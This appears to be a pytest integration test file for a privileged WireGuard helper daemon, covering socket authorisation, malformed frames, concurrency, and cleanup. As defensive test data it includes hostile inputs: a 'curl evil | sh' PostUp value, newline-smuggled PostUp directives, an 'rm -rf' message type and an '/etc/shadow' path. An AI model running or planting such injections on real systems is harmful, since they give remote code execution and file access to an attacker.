"""The helper server with an in-memory backend: authorisation, bad input, busy, lost client.

The server runs on its own asyncio loop in a thread; tests talk to it over its real Unix
socket, with raw frames (to send garbage) or with the library client.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.fakes.wait import wait_until
from tests.wg_backends.fakes import FakeBackend, plain_asyncio
from tests.wg_backends.inproc import Running, serve_in_thread
from tests.wg_backends.keys import PRIV, PUB
from wg_backends.errors import HelperRefused
from wg_backends.helper.client import HelperClient
from wg_backends.helper.state import StateFile, TunnelRecord
from wg_backends.spec import PeerSpec, TunnelSpec

pytestmark = [pytest.mark.integration, pytest.mark.hostile_local_user]

ROOT = Path(__file__).resolve().parents[2]


def spec(name: str = "rtw0", key: str | None = PRIV) -> TunnelSpec:
    return TunnelSpec(
        interface=name,
        addresses=("10.232.0.2/32",),
        peers=(
            PeerSpec(public_key=PUB, endpoint="10.231.0.1:51820", allowed_ips=("10.233.0.0/24",)),
        ),
        private_key=key,
    )


@pytest.fixture
def make_server(tmp_path: Path) -> Iterator[Any]:
    running: list[Running] = []

    def make(*args: Any, **kw: Any) -> Running:
        running.append(serve_in_thread(tmp_path, *args, **kw))
        return running[-1]

    yield make
    for r in running:
        r.stop()


def raw(sock_path: Path) -> socket.socket:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(10)
    s.connect(str(sock_path))
    return s


def send(s: socket.socket, obj: Any) -> None:
    body = obj if isinstance(obj, bytes) else json.dumps(obj).encode()
    s.sendall(struct.pack(">I", len(body)) + body)


def recv(s: socket.socket) -> dict[str, Any]:
    head = b""
    while len(head) < 4:
        chunk = s.recv(4 - len(head))
        if not chunk:
            raise ConnectionError("closed")
        head += chunk
    (n,) = struct.unpack(">I", head)
    body = b""
    while len(body) < n:
        body += s.recv(n - len(body))
    out: dict[str, Any] = json.loads(body)
    return out


def spec_json(s: TunnelSpec) -> Any:
    return msgspec.to_builtins(s)


def test_socket_permissions_and_hello(make_server: Any) -> None:
    r = make_server()
    assert os.stat(r.socket).st_mode & 0o777 == 0o660
    assert os.stat(r.socket.parent).st_mode & 0o777 == 0o755
    with raw(r.socket) as s:
        send(s, {"v": 1, "type": "hello", "id": 7})
        reply = recv(s)
    assert reply["type"] == "ok"
    assert reply["id"] == 7
    assert reply["result"]["protocol"] == 1
    assert reply["result"]["uid"] == os.getuid()


BAD_BODIES = [
    (b"\xff\xfe garbage", "bad_request"),
    (b"[1,2,3]", "bad_request"),
    (b'{"v":1,"type":"rm -rf","id":1}', "bad_request"),
    (b'{"v":2,"type":"hello","id":1}', "unsupported_version"),
    (b'{"v":1,"type":"hello","id":1,"path":"/etc/shadow"}', "bad_request"),
    (b'{"v":1,"type":"down","id":1}', "bad_request"),
]


@pytest.mark.parametrize(("body", "code"), BAD_BODIES)
def test_bad_messages_refused_and_connection_keeps_serving(
    make_server: Any, body: bytes, code: str
) -> None:
    r = make_server()
    with raw(r.socket) as s:
        send(s, body)
        reply = recv(s)
        assert reply["type"] == "error"
        assert reply["code"] == code
        send(s, {"v": 1, "type": "hello", "id": 2})
        assert recv(s)["type"] == "ok"
    assert r.backend.up_ifaces == {}


@pytest.mark.parametrize(
    ("mutate", "needle"),
    [
        (lambda d: d.update(interface="rtw0\nPostUp"), "interface"),
        (lambda d: d.update(PostUp="curl evil | sh"), "PostUp"),
        (lambda d: d["peers"][0].update(endpoint="10.231.0.1:0"), "port"),
        (lambda d: d["peers"][0].update(endpoint="10.231.0.1:70000"), "port"),
        (lambda d: d["peers"][0].update(public_key="AAAA"), "public_key"),
        (lambda d: d["peers"][0].update(allowed_ips=["10.0.0.1/33"]), "allowed_ips"),
        (lambda d: d.update(dns=["1.1.1.1\nPostUp = x"]), "dns"),
        (lambda d: d.pop("private_key"), "private_key"),
    ],
)
def test_bad_specs_refused_nothing_run(make_server: Any, mutate: Any, needle: str) -> None:
    r = make_server()
    data = spec_json(spec())
    mutate(data)
    with raw(r.socket) as s:
        send(s, {"v": 1, "type": "up", "id": 3, "spec": data})
        reply = recv(s)
    assert reply["code"] == "bad_spec"
    assert needle in reply["message"]
    assert r.backend.up_ifaces == {}
    assert r.backend.entered.is_set() is False
    assert not (r.state_dir / "state.json").exists()


def test_oversized_frame_refused_and_helper_still_serving(make_server: Any) -> None:
    r = make_server()
    with raw(r.socket) as s:
        s.sendall(struct.pack(">I", 20_000_000))  # over MAX_REQUEST_FRAME (16 MiB + 64 KiB)
        reply = recv(s)
        assert reply["code"] == "bad_request"
        assert "exceeds" in reply["message"]
        assert s.recv(1) == b""  # the stream cannot be resynchronised: closed
    with raw(r.socket) as s:
        send(s, {"v": 1, "type": "hello", "id": 1})
        assert recv(s)["type"] == "ok"


def test_stalled_partial_frame_times_out(make_server: Any) -> None:
    r = make_server(frame_timeout=0.3)
    with raw(r.socket) as s:
        s.sendall(b"\x00\x00")
        reply = recv(s)
        assert "timed out" in reply["message"]


def test_wrong_uid_refused(make_server: Any) -> None:
    # a directory "nobody" can traverse (pytest's tmp_path is 0700)
    sock_dir = Path(tempfile.mkdtemp(prefix="rtw-sock-"))
    os.chmod(sock_dir, 0o755)
    try:
        _wrong_uid(make_server(sock_dir=sock_dir / "run"))
    finally:
        shutil.rmtree(sock_dir, ignore_errors=True)


def _wrong_uid(r: Running) -> None:
    os.chmod(r.socket, 0o666)  # let the OS connect through, so SO_PEERCRED decides
    code = (
        "import socket,struct,json,os\n"
        "os.setgid(65534); os.setgroups([]); os.setuid(65534)\n"
        f"s=socket.socket(socket.AF_UNIX); s.connect({str(r.socket)!r})\n"
        # the helper answers a refused caller at once, before any request
        "n=struct.unpack('>I',s.recv(4))[0]; print(s.recv(n).decode())\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=20)
    assert out.returncode == 0, out.stderr
    reply = json.loads(out.stdout)
    assert reply["code"] == "unauthorized"
    assert r.backend.up_ifaces == {}


def test_allowed_uid_and_group_authorise(make_server: Any) -> None:
    r = make_server(allowed_uids=frozenset({65534}), group="root")
    from wg_backends.helper.server import PeerCred

    assert r.server.authorised(PeerCred(os.getpid(), 65534, 65534))
    assert r.server.authorised(PeerCred(os.getpid(), 0, 0))
    assert not r.server.authorised(PeerCred(999999, 12345, 12345))
    assert r.server.authorised(PeerCred(999999, 12345, 0))  # primary group root


@plain_asyncio
async def test_second_client_mid_up_is_refused(make_server: Any) -> None:
    gate = threading.Event()
    r = make_server(FakeBackend(gate=gate))
    first = HelperClient(r.socket)
    task = asyncio.ensure_future(first.up(spec()))
    assert await asyncio.to_thread(r.backend.entered.wait, 10)
    async with HelperClient(r.socket) as second:
        with pytest.raises(HelperRefused) as err:
            await second.up(spec())
        assert err.value.helper_code == "busy"
        with pytest.raises(HelperRefused) as err:
            await second.down("rtw0")
        assert err.value.helper_code == "busy"
        assert (await second.hello())["helper"] == "rustronaut-helper"
    gate.set()
    status = await task
    assert status.up
    await first.close()
    await asyncio.to_thread(wait_until, lambda: "rtw0" not in r.backend.up_ifaces)


@plain_asyncio
async def test_lost_client_brings_down_and_state_cleared(make_server: Any) -> None:
    r = make_server()
    client = HelperClient(r.socket)
    await client.up(spec())
    assert StateFile(r.state_dir).load() == (
        TunnelRecord(
            "rtw0", "wg-quick", owner_uid=os.getuid(), owner_pid=os.getpid(),
            allowed_ips=("10.233.0.0/24",), endpoints=("10.231.0.1:51820",),
        ),  # what enforcement needs is recorded from the spec the helper brought up
    )  # fmt: skip
    assert os.stat(r.state_dir / "state.json").st_mode & 0o777 == 0o600
    await client.close()
    await asyncio.to_thread(wait_until, lambda: r.backend.downs == ["rtw0"])
    await asyncio.to_thread(wait_until, lambda: StateFile(r.state_dir).load() == ())


@plain_asyncio
async def test_failed_up_leaves_no_record(make_server: Any) -> None:
    r = make_server(FakeBackend(fail_up=True))
    async with HelperClient(r.socket) as client:
        with pytest.raises(HelperRefused) as err:
            await client.up(spec())
        assert err.value.helper_code == "backend"
        assert not (await client.status("rtw0")).up
    assert StateFile(r.state_dir).load() == ()


@plain_asyncio
async def test_foreign_interface_is_not_touched(make_server: Any) -> None:
    backend = FakeBackend()
    backend.up_ifaces["rtw0"] = spec()  # exists, but this helper did not make it
    r = make_server(backend)
    async with HelperClient(r.socket) as client:
        with pytest.raises(HelperRefused) as err:
            await client.up(spec())
        assert err.value.helper_code == "busy"
        with pytest.raises(HelperRefused) as err:
            await client.down("rtw0")
        assert err.value.helper_code == "not_up"
    assert backend.downs == []


def test_start_cleans_recorded_tunnels(make_server: Any, tmp_path: Path) -> None:
    StateFile(tmp_path / "state").save((TunnelRecord("rtwold", "wg-quick"),))
    backend = FakeBackend()
    backend.up_ifaces["rtwold"] = spec("rtwold")
    make_server(backend)
    assert backend.downs == ["rtwold"]
    assert StateFile(tmp_path / "state").load() == ()


def test_corrupt_state_file_is_ignored(make_server: Any, tmp_path: Path) -> None:
    (tmp_path / "state").mkdir(mode=0o700)
    (tmp_path / "state" / "state.json").write_text("{garbage")
    r = make_server()
    with raw(r.socket) as s:
        send(s, {"v": 1, "type": "hello", "id": 1})
        assert recv(s)["type"] == "ok"


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(garbage=st.binary(min_size=1, max_size=200))
def test_fuzzed_bytes_never_stop_the_helper(
    tmp_path_factory: pytest.TempPathFactory, garbage: bytes
) -> None:
    r = _shared_server(tmp_path_factory)
    with raw(r.socket) as s:
        s.sendall(garbage)
        s.shutdown(socket.SHUT_WR)
        s.settimeout(5)
        with contextlib.suppress(OSError):
            while s.recv(65536):
                pass
    with raw(r.socket) as s:  # still serving, nothing brought up
        send(s, {"v": 1, "type": "hello", "id": 1})
        assert recv(s)["type"] == "ok"
    assert r.backend.up_ifaces == {}


_SHARED: list[Running] = []


def _shared_server(factory: pytest.TempPathFactory) -> Running:
    # one server for all hypothesis examples (function fixtures do not reset per example)
    if not _SHARED:
        _SHARED.append(serve_in_thread(factory.mktemp("fuzz")))
    return _SHARED[0]


@pytest.fixture(autouse=True, scope="module")
def _stop_shared() -> Iterator[None]:
    yield
    for r in _SHARED:
        r.stop()
    _SHARED.clear()


@plain_asyncio
async def test_client_sees_a_helper_restart_without_a_failed_request(tmp_path: Path) -> None:
    """Issue 16: the engine must notice a restarted helper; ``connected`` turns False by
    itself and the next request reaches the new helper (which has no tunnel any more)."""
    first = serve_in_thread(tmp_path)
    client = HelperClient(first.socket)
    await client.up(spec())
    assert client.connected
    await asyncio.to_thread(first.stop)
    await asyncio.to_thread(wait_until, lambda: not client.connected, 5)
    second = serve_in_thread(tmp_path)
    try:
        assert not (await client.status("rtw0")).up  # the new helper cleaned the old one up
        assert (await client.up(spec())).up
    finally:
        await client.close()
        await asyncio.to_thread(second.stop)
